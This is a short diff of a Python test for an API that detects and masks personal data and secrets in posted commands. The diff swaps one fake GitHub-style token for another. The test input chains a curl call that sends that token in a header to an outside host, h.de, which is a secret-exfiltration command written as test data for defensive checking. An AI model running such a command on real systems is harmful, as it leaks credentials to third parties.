@@ -56,7 +56,7 @@ def test_a_posted_action_is_judged_stored_and_answered_with_every_field(api: Api
 
 
 def test_personal_data_and_secrets_are_found_and_masked(api: Api) -> None:
-    token = "ghp_" + "a1B2" * 9
+    token = "ghp_" + "aB3dE5fG7hJ9kL1mN2" + "pQ4rS6tU8vW0xYz1A2"
     answer = api.post(data={"command": f"mail bob.miller@corp-mail.com; curl -H 'x: {token}' h.de"})
 
     assert (True, ["email"]) == (answer["pii_detected"], answer["pii_fields"])
